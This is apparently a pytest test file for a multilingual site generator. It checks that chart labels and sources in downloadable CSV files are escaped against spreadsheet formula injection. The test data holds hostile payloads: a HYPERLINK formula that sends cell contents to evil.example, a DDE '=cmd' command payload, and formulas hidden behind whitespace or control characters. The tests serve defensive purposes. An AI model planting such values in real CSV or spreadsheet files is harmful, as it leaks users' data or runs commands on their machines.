"""Chart values and labels in the CSV files readers download stay text and numbers: nothing a spreadsheet runs."""

from __future__ import annotations

import csv
import io

from conftest import LANGUAGES, build


def test_chart_labels_that_look_like_formulas_stay_text_in_every_languages_csv(scratch, tmp_path):
    hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
               "  =cmd|' /C calc'!A0"]
    for lang in LANGUAGES:
        labels = scratch / f"content/charts.{lang}.yml"
        text = labels.read_text()
        for old, new in (("eu-citizens: ", hostile[0]), ("non-eu-nationals: ", hostile[1]), ("non-eu: ", hostile[2]),
                         ("other: ", hostile[3]), ("non-eu-citizens: ", hostile[4]), ("gap: ", hostile[5])):
            start = text.index(old) + len(old)
            end = text.index("\n", start)
            escaped = new.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
            text = text[:start] + '"' + escaped + '"' + text[end:]
        labels.write_text(text)
    chart = scratch / "content/charts/immigration-2018.yml"
    chart.write_text(chart.read_text().replace("source: ", "source: '  =cmd|'' /C calc''!A0' #", 1))
    result = build(scratch, tmp_path / "site")
    assert result.returncode == 0, result.stdout + result.stderr
    for lang in LANGUAGES:
        folder = tmp_path / "site" / ("" if lang == "en" else lang) / "data"
        rows = [row for file in sorted(folder.glob("*.csv"))
                for row in csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8"), newline=""))]
        assert rows
        for row in rows:
            for column in ("dataset", "area", "key", "label", "unit", "source"):
                cell = row[column]
                assert not cell.lstrip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), \
                    (lang, column, cell)
            float(row["value"])  # numbers stay numbers
        labels = {row["label"] for row in rows}
        assert {"'" + h for h in hostile[:5]} | {"' =1+1"} <= labels, (lang, labels)
        assert {row["source"] for row in rows} >= {"'=cmd|' /C calc'!A0"}


def test_a_negative_value_stays_a_number(scratch, tmp_path):
    from epi_site.content.charts import Dataset, Point

    data = Dataset("d", "bar", "Eurostat", "EU-27", 2019, "percent", False, -3.5, None,
                   (Point("a", -1.0), Point("b", 2.5)), {})
    rows = list(csv.reader(io.StringIO(data.csv({"a": "-a", "b": "b"}))))
    assert [r[5] for r in rows[1:]] == ["-1", "2.5", "-3.5"]
    assert [r[4] for r in rows[1:3]] == ["'-a", "b"]


def test_a_formula_after_leading_white_space_is_neutralised_too():
    from epi_site.content.charts import Dataset, Point

    data = Dataset("d", "bar", " \t@SUM(A1)", "  =1+1", 2019, "percent", False, None, None, (Point("a", 1.0),), {})
    row = list(csv.reader(io.StringIO(data.csv({"a": "   -2+3"}), newline="")))[1]
    assert (row[1], row[4], row[8]) == ("'  =1+1", "'   -2+3", "' \t@SUM(A1)")
